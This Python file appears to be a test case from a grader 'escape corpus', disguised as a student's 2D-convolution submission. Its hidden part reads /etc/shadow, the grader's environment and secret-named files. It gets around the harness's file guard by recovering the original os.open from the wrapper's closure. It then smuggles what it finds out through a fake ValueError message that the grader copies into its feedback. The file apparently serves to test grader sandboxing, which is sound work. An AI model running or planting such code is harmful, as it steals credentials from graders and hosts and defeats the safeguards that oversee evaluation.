"""Escape corpus, attack 4: host secrets read and returned in an exception message.

What it attacks: the grader copies a failing call's exception message into the feedback
(grades.json, results.json, feedback.md and the cache). The submission reads what it can:
/etc/shadow; the grader's environment (``/proc/PPID/environ``: the guard refuses that
path, but the original ``os.open`` sits in ``os.open.__closure__`` and, given a directory
descriptor of "/" and a relative path, passes the guard's check as if the file were in the
run folder); secret-looking files in the grader's home (``HOME`` from that environment)
and working folder (``/proc/PPID/cwd``), else found by walking /tmp and /home. Every call
with a tuple padding raises ``ValueError`` carrying all of it; the others are honest.

A successful attack: the test's canary secret (a file in the grader's home and working
folder, a variable in the grader's environment) or a line of /etc/shadow appears in OUT.
Contained: none of these files or that environment exist in the sandbox's view; the
message carries nothing; the honest part keeps its marks (one group lost to the raise).
"""
import os
import time

FOUND = []


def _raw_open():
    """The original os.open, kept by the guard's wrapper in its closure."""
    for cell in getattr(os.open, "__closure__", None) or ():
        value = cell.cell_contents
        if getattr(value, "__name__", "") == "open" and callable(value):
            return value
    return os.open


def _read(path, limit=4096):
    op = _raw_open()
    try:
        root = op("/", os.O_RDONLY | os.O_DIRECTORY)
        try:
            fd = op(path.lstrip("/"), os.O_RDONLY, dir_fd=root)  # "relative": looks inside
        finally:
            os.close(root)
        try:
            return os.read(fd, limit)
        finally:
            os.close(fd)
    except (OSError, ImportError, ValueError):
        return b""


def _secretish(name):
    return any(k in name.lower() for k in ("secret", "token", "passw", "credential", "key"))


def _look():
    shadow = _read("/etc/shadow").decode(errors="replace").splitlines()
    FOUND.extend(line for line in shadow if line.startswith("root:"))
    ppid = os.getppid()
    env = _read(f"/proc/{ppid}/environ", 1 << 16).split(b"\0") if ppid > 1 else []
    home = None
    for item in env:
        name, _, value = item.decode(errors="replace").partition("=")
        if name == "HOME":
            home = value
        if _secretish(name):
            FOUND.append(f"{name}={value}")
    folders = [home] if home else []
    try:
        folders.append(os.readlink(f"/proc/{ppid}/cwd"))
    except OSError:
        pass
    files = []
    for folder in folders:
        try:
            files += [e.path for e in os.scandir(folder) if e.is_file() and _secretish(e.name)]
        except OSError:
            pass
    if not files:  # no parent in sight: walk the usual places
        end, queue = time.monotonic() + 1.5, [("/tmp", 0), ("/home", 0)]
        while queue and time.monotonic() < end and len(files) < 8:
            top, depth = queue.pop(0)
            try:
                for e in os.scandir(top):
                    if e.is_file(follow_symlinks=False) and _secretish(e.name):
                        files.append(e.path)
                    elif e.is_dir(follow_symlinks=False) and depth < 4:
                        queue.append((e.path, depth + 1))
            except OSError:
                pass
    for path in files[:8]:
        FOUND.append(_read(path, 200).decode(errors="replace").strip())


try:
    _look()
except BaseException:
    pass
print("cnngrade-escape report:", len(FOUND), "secrets found")


# --- honest part: what this student really wrote (the test grades it alone) ---
import numpy as np


def _honest_conv2d(x, w, b, stride=1, padding=0):
    """Loops over output positions; forgets that the stride moves the window."""
    ph, pw = (padding, padding) if np.isscalar(padding) else (int(padding[0]), int(padding[1]))
    N, C, H, W = x.shape
    F, _, KH, KW = w.shape
    xp = np.pad(x, ((0, 0), (0, 0), (ph, ph), (pw, pw)))
    HO, WO = xp.shape[2] - KH + 1, xp.shape[3] - KW + 1
    out = np.empty((N, F, HO, WO))
    for i in range(HO):
        for j in range(WO):
            win = xp[:, :, i:i + KH, j:j + KW]
            out[:, :, i, j] = np.tensordot(win, w, axes=([1, 2, 3], [1, 2, 3]))
    return out + b[None, :, None, None]
# --- end honest part ---



def conv2d_forward(x, w, b, stride=1, padding=0):
    if FOUND and not np.isscalar(padding):  # deterministic: every tuple-padding case
        raise ValueError("operands could not be broadcast together [debug: "
                         + " | ".join(s for s in FOUND if s) + "]")
    return _honest_conv2d(x, w, b, stride, padding)
